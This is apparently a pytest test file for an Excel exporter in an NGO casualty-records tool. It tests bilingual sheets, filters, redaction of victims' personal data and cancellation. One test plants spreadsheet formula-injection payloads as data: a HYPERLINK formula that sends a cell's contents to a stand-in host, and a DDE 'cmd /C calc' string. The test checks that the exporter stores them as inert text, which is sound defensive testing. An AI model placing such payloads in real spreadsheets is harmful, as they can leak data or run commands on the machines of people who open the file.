"""The NGO workbook: sheets, headers, HXL rows, layout, figures, filters, redaction, cancel."""

from __future__ import annotations

import re
import uuid
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from casualtydb.db import Database
from casualtydb.demo import demo_id
from casualtydb.errors import ValidationError
from casualtydb.io import vocab
from casualtydb.io.sheets import DATA_SHEETS, sheet_name
from casualtydb.io.xlsx_export import ExportCancelled, ExportOptions, export_workbook, incident_total
from casualtydb.models import Claim, Incident, Report, Source, VictimGroup

from .conftest import export, records, rows, spec

PRESENTATION_FORMS = re.compile("[\ufb50-\ufdff\ufe70-\ufeff]")


@pytest.mark.parametrize("lang", ["ar", "en"])
def test_sheets_headers_hxl_rows_and_layout(shared_demo: Database, tmp_path: Path, lang: str) -> None:
    out = tmp_path / f"demo-{lang}.xlsx"
    summary = export(shared_demo, out, lang=lang)
    assert (summary.incidents, summary.claims, summary.sources, summary.reports) == (4, 14, 5, 5)
    wb = load_workbook(out)
    assert wb.sheetnames == [sheet_name("about", lang), sheet_name("summary", lang)] + [
        s.name(lang) for s in DATA_SHEETS]
    for ws in wb.worksheets:
        assert bool(ws.sheet_view.rightToLeft) == (lang == "ar"), ws.title
    for s in DATA_SHEETS:
        ws = wb[s.name(lang)]
        header = [c.value for c in ws[1]]
        hxl = [c.value for c in ws[2]]
        assert header == [c.header(lang) for c in s.columns]
        assert hxl == [c.hxl for c in s.columns]
        assert ws.freeze_panes == "A3"
        assert ws.auto_filter.ref.startswith("A2:")  # the filter sits on the hashtag row
        assert ws.column_dimensions["A"].width == s.columns[0].width


def test_dates_are_dates_and_numbers_are_numbers(demo_workbooks: dict[str, Path]) -> None:
    out = demo_workbooks["en"]
    inc = rows(out, "incidents", cells=True)
    header = [c.value for c in inc[0]]
    first = inc[2]
    start = first[header.index("start date")]
    assert start.is_date and start.number_format == "yyyy-mm-dd"
    claims = rows(out, "claims", cells=True)
    h = [c.value for c in claims[0]]
    mins = [r[h.index("min")] for r in claims[2:]]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in mins)
    approx = [r[h.index("approximate")] for r in claims[2:]]
    assert {c.data_type for c in approx} == {"b"}


def test_demo_figures_claims_and_conflicts(demo_workbooks: dict[str, Path]) -> None:
    out = demo_workbooks["en"]
    incidents = {r["incident_id"]: r for r in records(out, "incidents")}
    hamidiya = incidents[str(demo_id("incident:strike-hamidiya"))]
    assert hamidiya["place_name_en"] == "Al-Hamidiya" and hamidiya["place_name_ar"] == "الحميدية"
    assert (hamidiya["adm1_pcode"], hamidiya["adm2_pcode"], hamidiya["adm3_pcode"]) == ("SY09", "SY0901", "SY090100")
    assert hamidiya["adm1_name_en"] == "Deir-ez-Zor"
    assert hamidiya["date_prec"] == 1 and hamidiya["time_precision"] == 1
    assert hamidiya["where_prec"] == 1 and hamidiya["geo_precision"] == 1
    assert hamidiya["other_places"] == "Al-Sheikh Yassin"
    assert "Russian forces" in hamidiya["actors"]
    assert hamidiya["claims"] == 7
    assert hamidiya["killed_low"] is not None and hamidiya["killed_low"] <= hamidiya["killed_best"]
    assert hamidiya["status"] == "conflicting"
    siege = incidents[str(demo_id("incident:siege-deir-ez-zor"))]
    assert siege["event_type"] == "siege" and siege["besieged_best"] in (700, 1000)
    assert "(controls the area)" in siege["actors"]

    claims = records(out, "claims")
    assert len(claims) == 14
    revised = next(c for c in claims if c["claim_id"] == str(demo_id("claim:n-killed-revised")))
    assert (revised["min"], revised["max"], revised["source_reliability"]) == (9, 9, "D")
    assert revised["incident"] == str(demo_id("incident:strike-hamidiya"))
    relay = next(c for c in claims if c["claim_id"] == str(demo_id("claim:p-killed-hamidiya")))
    assert relay["relays"] == "Horriya Press"
    open_ended = next(c for c in claims if c["claim_id"] == str(demo_id("claim:m-injured-hamidiya")))
    assert (open_ended["min"], open_ended["max"]) == (12, None)

    conflicts = records(out, "conflicts")
    involved = {c["claim_id"] for c in conflicts}
    assert str(demo_id("claim:h-killed-hamidiya")) in involved
    assert all(c["category"] == "killed" or c["category"] == "besieged" for c in conflicts)

    sources = {s["source_id"]: s for s in records(out, "sources")}
    assert sources[str(demo_id("source:horriya"))]["kind"] == "news outlet"
    assert sources[str(demo_id("source:horriya"))]["claims"] == 3


def test_about_sheet_has_the_bilingual_codebook(demo_workbooks: dict[str, Path]) -> None:
    out = demo_workbooks["ar"]
    about = load_workbook(out)[sheet_name("about", "ar")]
    text = "\n".join(str(c.value) for row in about.iter_rows() for c in row if c.value is not None)
    for s in DATA_SHEETS:
        for col in s.columns:
            assert col.ar in text and col.en in text and col.hxl in text, col.key
    for v in vocab.ALL:
        for term in v.terms:
            assert term.en in text and term.ar in text, (v.key, term.value)
    assert "credible-range-v1" in text  # the rule that derives low / best / high
    assert "where_prec" in text and "geo_precision" in text and "UCDP" in text and "ACLED" in text
    assert "غير منقح" in text  # says the file holds personal data
    assert "demo.db" in text and "/" not in text.split("demo.db")[0][-40:]  # file name, not its path


def test_no_reshaped_arabic_reaches_a_cell(demo_workbooks: dict[str, Path]) -> None:
    out = demo_workbooks["ar"]
    for ws in load_workbook(out).worksheets:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                assert not (isinstance(v, str) and PRESENTATION_FORMS.search(v)), v


def test_summary_by_month_governorate_actor_with_a_chart(demo_workbooks: dict[str, Path]) -> None:
    out = demo_workbooks["en"]
    import zipfile

    with zipfile.ZipFile(out) as z:
        assert any(n.startswith("xl/charts/chart") for n in z.namelist())
    ws = load_workbook(out)["Summary"]
    values = [[c for c in r] for r in ws.iter_rows(values_only=True)]
    months = [r for r in values if r and r[0] in ("2017-10",)]
    assert months and months[0][1] == 4  # four incidents in October 2017
    assert any(r and r[0] == "Deir-ez-Zor" and r[1] == "SY09" for r in values)
    assert any(r and r[0] == "Russian forces" for r in values)


def test_place_and_date_filters(shared_demo: Database, tmp_path: Path) -> None:
    scanned_demo = shared_demo
    out = tmp_path / "f.xlsx"
    summary = export(scanned_demo, out, lang="en", place="SY0902")  # Abu Kamal district
    assert summary.incidents == 2 and {r["place_name_en"] for r in records(out, "incidents")} == {"As-Susah"}
    assert export(scanned_demo, out, lang="en", place="البوكمال").incidents == 2  # name → the coarsest unit
    assert export(scanned_demo, out, lang="en", place="Deir ez-Zor").incidents == 4
    assert export(scanned_demo, out, lang="en", date_from=date(2017, 10, 30)).incidents == 3
    assert export(scanned_demo, out, lang="en", date_to=date(2017, 10, 29)).incidents == 1
    empty = export(scanned_demo, out, lang="en", date_from=date(2020, 1, 1))
    assert (empty.incidents, empty.claims) == (0, 0)
    assert records(out, "incidents") == []
    with pytest.raises(ValidationError, match="no place"):
        export(scanned_demo, out, lang="en", place="Atlantis")
    with pytest.raises(ValidationError):
        ExportOptions(date_from=date(2018, 1, 1), date_to=date(2017, 1, 1))


def test_merged_duplicates_are_left_out(scanned_demo: Database, tmp_path: Path) -> None:
    with scanned_demo.transaction() as s:
        s.get(Incident, demo_id("incident:strike-sousa-hospital")).merged_into_id = demo_id("incident:strike-sousa")
    assert export(scanned_demo, tmp_path / "m.xlsx", lang="en").incidents == 3


def _add_personal_data(db: Database) -> None:
    with db.transaction() as s:
        claim = s.get(Claim, demo_id("claim:hosp-killed"))
        claim.victim_names = "Ahmad X; Fatima Y"
        claim.witnesses = "nurse Z"
        src = s.get(Source, demo_id("source:demo-network"))
        src.notes, src.notes_sensitive = "our contact there is at risk", True
        inc = s.get(Incident, demo_id("incident:strike-sousa"))
        inc.notes, inc.notes_sensitive = "the family asked not to be named", True
        rep = s.get(Report, demo_id("report:monitor-2017-10-31"))
        rep.notes, rep.notes_sensitive = "ordinary note", False


def test_redaction_leaves_out_what_could_endanger_people(demo_db: Database, tmp_path: Path) -> None:
    _add_personal_data(demo_db)
    full, red = tmp_path / "full.xlsx", tmp_path / "red.xlsx"
    export(demo_db, full, lang="en")
    summary = export(demo_db, red, lang="en", redact=True)
    full_text = _all_text(full)
    red_text = _all_text(red)
    for secret in ("Ahmad X", "nurse Z", "+000 0000 0000", "our contact there is at risk",
                   "the family asked not to be named"):
        assert secret in full_text
        assert secret not in red_text, secret
    assert "ordinary note" in red_text
    assert "victim names" not in rows(red, "claims")[0] and "contact" not in rows(red, "sources")[0]
    assert "(withheld: marked sensitive)" in red_text
    assert summary.withheld == {"victim names": 1, "witnesses": 1, "contact": 1, "incident notes": 1,
                                "source notes": 1}
    about = "\n".join(str(c.value) for r in load_workbook(red)["About"].iter_rows() for c in r if c.value)
    assert "Redacted" in about and "victim names: 1" in about


def _all_text(path: Path) -> str:
    return "\n".join(str(v) for ws in load_workbook(path).worksheets for r in ws.iter_rows(values_only=True)
                     for v in r if v is not None)


def test_a_formula_like_quote_exports_as_text(demo_db: Database, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"7 killed")'
    with demo_db.transaction() as s:
        s.get(Claim, demo_id("claim:h-killed-sousa")).quote = evil
        s.get(Report, demo_id("report:horriya-2017-10-30")).title = "@cmd|' /C calc'!A0"
    out = tmp_path / "evil.xlsx"
    export(demo_db, out, lang="en")
    claims = rows(out, "claims", cells=True)
    h = [c.value for c in claims[0]]
    quote = next(r[h.index("quote")] for r in claims[2:] if r[h.index("claim id")].value ==
                 str(demo_id("claim:h-killed-sousa")))
    assert (quote.value, quote.data_type, quote.quotePrefix) == (evil, "s", True)
    titles = {r[h.index("report title")].value: r[h.index("report title")].data_type for r in claims[2:]}
    assert titles["@cmd|' /C calc'!A0"] == "s"


def test_progress_reaches_the_total(shared_demo: Database, tmp_path: Path) -> None:
    scanned_demo = shared_demo
    calls: list[tuple[int, int]] = []
    export_path = tmp_path / "p.xlsx"
    with scanned_demo.transaction() as s:
        export_workbook(export_path, session=s, options=ExportOptions(lang="en"),
                        progress=lambda d, t: calls.append((d, t)))
    assert calls[-1] == (18, 18)  # 4 incidents + 14 claims
    assert [d for d, _ in calls] == sorted(d for d, _ in calls)


def test_a_cancelled_export_leaves_no_file(shared_demo: Database, tmp_path: Path) -> None:
    scanned_demo = shared_demo
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "c.xlsx"
    out.write_bytes(b"the previous export")
    temp_files = len(ALL_TEMP_FILES)
    asked = []

    def cancelled() -> bool:
        asked.append(1)
        return len(asked) > 1

    with scanned_demo.transaction() as s, pytest.raises(ExportCancelled):
        export_workbook(out, session=s, options=ExportOptions(lang="en"), cancelled=cancelled)
    assert out.read_bytes() == b"the previous export"
    assert sorted(p.name for p in folder.iterdir()) == ["c.xlsx"]
    assert len(ALL_TEMP_FILES) == temp_files  # openpyxl's per-sheet temporary files are gone too


def test_bad_output_paths_are_refused(shared_demo: Database, tmp_path: Path) -> None:
    scanned_demo = shared_demo
    with pytest.raises(ValidationError, match=".xlsx"):
        export(scanned_demo, tmp_path / "x.csv")
    with pytest.raises(ValidationError, match="folder"):
        export(scanned_demo, tmp_path / "missing" / "x.xlsx")


def test_incident_total_adds_groups_without_double_counting_breakdowns() -> None:
    from casualtydb.io.xlsx_export import Fig

    def f(low: int, best: int, high: int | None) -> Fig:
        return Fig(low, best, high, "r", None)

    civ = {VictimGroup.CIVILIANS: f(7, 7, 9), VictimGroup.CHILDREN: f(2, 2, 2), VictimGroup.COMBATANTS: f(3, 4, 5)}
    assert incident_total(civ) == (10, 11, 14, False)
    parts = {VictimGroup.CHILDREN: f(2, 2, 2), VictimGroup.WOMEN: f(1, 1, None)}
    assert incident_total(parts) == (3, 3, None, True)
    assert incident_total({}) == (None, None, None, False)


def test_export_works_without_derived_figures(demo_db: Database, tmp_path: Path) -> None:
    from sqlalchemy import delete

    from casualtydb.models import IncidentFigure

    with demo_db.transaction() as s:  # as in a database the cross-referencing scan never saw
        s.execute(delete(IncidentFigure))
    out = tmp_path / "raw.xlsx"
    export(demo_db, out, lang="en")
    incidents = records(out, "incidents")
    assert all(r["killed_best"] is None for r in incidents)
    hamidiya = next(r for r in incidents if r["incident_id"] == str(demo_id("incident:strike-hamidiya")))
    assert hamidiya["independent_sources"] == 3  # Horriya, network, monitor; the page relays Horriya
    about = "\n".join(str(c.value) for r in load_workbook(out)["About"].iter_rows() for c in r if c.value)
    assert "run the cross-referencing scan" in about


def test_long_and_control_character_text_from_the_database(demo_db: Database, tmp_path: Path) -> None:
    with demo_db.transaction() as s:
        s.get(Claim, demo_id("claim:m-besieged")).quote = "قرابة\x07 ألف " + "م" * 40_000
    out = tmp_path / "long.xlsx"
    export(demo_db, out, lang="ar")
    claims = records(out, "claims", "ar")
    quote = next(c["quote"] for c in claims if c["claim_id"] == str(demo_id("claim:m-besieged")))
    assert quote.startswith("قرابة ألف مم") and "مقتطع" in quote and len(quote) <= 32_767


def test_an_incident_without_places_or_claims_still_exports(db: Database, tmp_path: Path) -> None:
    with db.transaction() as s:
        s.add(Incident(id=uuid.uuid4(), start_date=date(2020, 5, 1)))
    summary = export(db, tmp_path / "bare.xlsx", lang="ar")
    assert (summary.incidents, summary.claims) == (1, 0)
    assert spec("incidents")  # the sheet definition is found by key


def test_the_workbook_gets_the_users_usual_permissions(shared_demo: Database, tmp_path: Path) -> None:
    import os
    import stat

    umask = os.umask(0o022)
    try:
        out = tmp_path / "perm.xlsx"
        export(shared_demo, out, lang="en")
        assert stat.S_IMODE(out.stat().st_mode) == 0o644
    finally:
        os.umask(umask)
